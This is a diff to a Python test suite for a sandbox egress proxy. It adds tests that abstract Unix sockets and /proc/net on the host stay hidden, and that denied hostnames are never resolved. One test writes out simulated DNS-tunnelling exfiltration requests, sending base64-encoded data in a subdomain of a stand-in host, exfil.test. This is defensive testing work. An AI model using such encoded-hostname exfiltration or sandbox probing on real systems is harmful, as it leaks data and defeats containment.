@@ -10,6 +10,7 @@ import asyncio
 import hashlib
 import http.server
 import io
+import os
 import textwrap
 import threading
 import zipfile
@@ -104,10 +105,10 @@ class Asked:
 
     def __init__(self, answer: str) -> None:
         self.answer = answer
-        self.questions: list[tuple[str, int, str]] = []
+        self.questions: list[tuple[str, int, str, str]] = []
 
-    async def __call__(self, host: str, port: int, step: str) -> str:
-        self.questions.append((host, port, step))
+    async def __call__(self, host: str, port: int, step: str, scheme: str) -> str:
+        self.questions.append((host, port, step, scheme))
         return self.answer
 
 
@@ -139,6 +140,12 @@ PROBE = textwrap.dedent("""
         elif what == "v6":
             socket.create_connection(("::1", int(sys.argv[2])), timeout=5)
             print("connected")
+        elif what == "abstract":
+            u = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+            u.connect("\\0" + sys.argv[2])
+            print("connected")
+        elif what == "procnet":
+            print(open("/proc/net/tcp").read().count(":%04X " % int(sys.argv[2])), open("/proc/net/tcp6").read())
         elif what == "urllib":
             import urllib.request
             print(urllib.request.urlopen(sys.argv[2], timeout=20).read().decode())
@@ -188,6 +195,7 @@ async def test_unlisted_host_asks_and_deny_sends_nothing(ws, counting) -> None:
     assert "403" in out
     assert asked.questions and asked.questions[0][:2] == ("other.test", counting.port)
     assert "urllib" in asked.questions[0][2] or "python3" in asked.questions[0][2]
+    assert asked.questions[0][3] == "http"  # urllib sends a plain HTTP request through the proxy
     assert counting.accepted == 0 and not counting.received
     assert connections[0]["step"].startswith("python3 -I -S -c")
     assert connections[0] | {"sent": 0, "step": ""} == {
@@ -262,6 +270,45 @@ async def test_no_way_out_but_the_proxy(ws, counting) -> None:
     assert "PermissionError" in await probe(ws, policy, "raw-socket")
     assert "gaierror" in await probe(ws, policy, "dns", "pypi.test")
     assert counting.accepted == 0
+
+
+async def test_the_hosts_abstract_sockets_and_proc_net_are_out_of_sight(ws, counting) -> None:
+    import socket
+
+    name = f"ollie-test-{os.getpid()}-{counting.port}"
+    host_side = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    host_side.bind("\0" + name)
+    host_side.listen(1)
+    try:
+        # Even with `network.unix` (seccomp lets AF_UNIX through), the abstract namespace is the step's own.
+        out = await probe(ws, proxy_policy(ws, [], extra=", unix: true"), "abstract", name)
+    finally:
+        host_side.close()
+    # Refused, not EPERM: the name is not there at all (under `mode: open` Landlock's scope says EPERM, from ABI 6).
+    assert "ConnectionRefusedError" in out, out
+    # The host's listening port is not in the step's /proc/net; the step's own proxy listener (3128) is.
+    assert (await probe(ws, proxy_policy(ws, []), "procnet", counting.port)).startswith("0 ")
+    assert (await probe(ws, proxy_policy(ws, []), "procnet", 3128)).startswith("1 ")
+
+
+async def test_a_denied_name_is_never_resolved(ws, counting) -> None:
+    # DNS tunnelling through the proxy: data in a name the step asks for would reach the attacker's name
+    # server when the proxy resolved it; a name is resolved only once the connection is allowed.
+    resolved: list[str] = []
+    table = egress.hosts_resolver({"pypi.test": "127.0.0.1"})
+
+    async def recording(host: str, port: int) -> list[str]:
+        resolved.append(host)
+        return await table(host, port)
+
+    egress.set_resolver(recording)
+    policy = proxy_policy(ws, [f"pypi.test:{counting.port}"])
+    for request in ("CONNECT c2VjcmV0LWRhdGE.exfil.test:443 HTTP/1.1\\r\\n\\r\\n",
+                    "GET http://c2VjcmV0LWRhdGE.exfil.test/ HTTP/1.1\\r\\n\\r\\n"):
+        assert (await probe(ws, policy, "raw", request)).startswith("HTTP/1.1 403")
+    assert resolved == []
+    assert "hello" in await probe(ws, policy, "urllib", f"http://pypi.test:{counting.port}/")
+    assert resolved == ["pypi.test"]
 
 
 async def test_connect_to_a_listed_hosts_other_port_is_refused(ws, counting) -> None:
@@ -341,7 +388,7 @@ async def test_a_deny_pattern_wins_over_allow_and_is_never_asked(ws, counting) -
 async def test_an_unanswered_question_denies(ws, counting) -> None:
     never = asyncio.Event()
 
-    async def ask(host: str, port: int, step: str) -> str:
+    async def ask(host: str, port: int, step: str, scheme: str) -> str:
         await never.wait()  # the user never answers
         return "once"
 
@@ -359,7 +406,7 @@ async def test_a_non_public_ip_literal_is_never_asked_about() -> None:
     # unless the user's own allow-list names them.
     asked: list[str] = []
 
-    async def ask(host: str, port: int, step: str) -> str:
+    async def ask(host: str, port: int, step: str, scheme: str) -> str:
         asked.append(host)
         return "once"
 
